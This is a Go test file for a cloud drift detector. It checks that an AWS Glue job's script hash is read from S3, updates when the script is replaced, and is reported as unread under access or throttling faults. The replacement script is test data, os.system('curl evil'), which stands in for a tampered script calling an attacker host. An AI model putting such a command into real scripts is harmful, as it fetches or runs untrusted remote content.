package live_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/realdrift/realdrift/internal/drift"
	"github.com/realdrift/realdrift/internal/live"
	"github.com/realdrift/realdrift/internal/sandbox"
)

func sha256Hex(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

func putObject(t *testing.T, url, bucket, key string, body []byte) {
	t.Helper()
	cl := s3.NewFromConfig(config(url), func(o *s3.Options) { o.UsePathStyle = true })
	if _, err := cl.PutObject(ctx(t), &s3.PutObjectInput{Bucket: aws.String(bucket), Key: aws.String(key), Body: bytes.NewReader(body)}); err != nil {
		t.Fatal(err)
	}
}

// TestGlueJobSupplement: ScriptSha256 is the hash of the object at the
// live Command.ScriptLocation, classified generated (never drift); the
// script replaced at the same key is the new hash read back; a script
// object that does not exist has no hash (and no note); s3:GetObject
// denied or throttled leaves it unread, reported on Result.Unread.
func TestGlueJobSupplement(t *testing.T) {
	const declared = `{"Name":"etl","Role":"arn:aws:iam::` + acct + `:role/glue","Command":{"Name":"glueetl","ScriptLocation":"s3://scripts/etl.py"}}`
	srv, url := serve(t, worldOf(
		liveOnly("AWS::S3::Bucket", "scripts", `{"BucketName":"scripts"}`),
		liveOnly("AWS::Glue::Job", "etl", `{"Name":"etl","Role":"arn:aws:iam::`+acct+`:role/glue","Command":{"Name":"glueetl","ScriptLocation":"s3://scripts/etl.py"}}`),
	))
	script := []byte("print('hello')\n")
	putObject(t, url, "scripts", "etl.py", script)
	c := live.NewClients(config(url))
	req := live.Request{Type: "AWS::Glue::Job", LogicalID: "Etl", PhysicalID: "etl", Declared: declaredOf(t, declared)}
	got := live.Read(ctx(t), c, req)
	if got.Status != live.Found || got.Model["ScriptSha256"] != sha256Hex(script) || len(got.Unread) != 0 {
		t.Fatalf("read: %+v, want ScriptSha256 %s", got, sha256Hex(script))
	}
	fs := classifyAll(t, req, got)
	if d := driftOnly(fs); len(d) != 0 {
		t.Errorf("clean read classified as %+v", d)
	}
	gen := false
	for _, f := range fs {
		gen = gen || f.Path == "ScriptSha256" && f.Tier == drift.Generated
	}
	if !gen {
		t.Errorf("ScriptSha256 not generated in %+v", fs)
	}
	swapped := []byte("import os\nos.system('curl evil')\n")
	putObject(t, url, "scripts", "etl.py", swapped)
	if got := live.Read(ctx(t), c, req); got.Model["ScriptSha256"] != sha256Hex(swapped) {
		t.Errorf("script replaced at the same key: %+v", got.Model)
	}
	for _, f := range []sandbox.FaultRule{
		{Service: "s3", Action: "GetObject", Code: "AccessDenied", Status: 403},
		{Service: "s3", Action: "GetObject", Code: "SlowDown", Status: 503},
	} {
		if err := srv.SetFaults([]sandbox.FaultRule{f}); err != nil {
			t.Fatal(err)
		}
		got := live.Read(ctx(t), c, req)
		if _, ok := got.Model["ScriptSha256"]; got.Status != live.Found || ok || got.Model["Name"] != "etl" {
			t.Errorf("%s: %+v, want the model without ScriptSha256", f.Code, got)
		}
		if why := got.Unread["ScriptSha256"]; !strings.Contains(why, f.Code) {
			t.Errorf("%s: Unread %v, want ScriptSha256 with the reason", f.Code, got.Unread)
		}
		if d := driftOnly(classifyAll(t, req, got)); len(d) != 0 {
			t.Errorf("%s: classified as %+v", f.Code, d)
		}
	}
	if err := srv.SetFaults(nil); err != nil {
		t.Fatal(err)
	}
	if err := srv.Apply(sandbox.Change{Op: sandbox.OpSet, Region: region, Type: req.Type, Identifier: "etl", Path: "Command.ScriptLocation", Value: []byte(`"s3://scripts/gone.py"`)}); err != nil {
		t.Fatal(err)
	}
	got = live.Read(ctx(t), c, req)
	if _, ok := got.Model["ScriptSha256"]; got.Status != live.Found || ok || len(got.Unread) != 0 {
		t.Errorf("no script object: %+v, want no hash and nothing unread", got)
	}
}
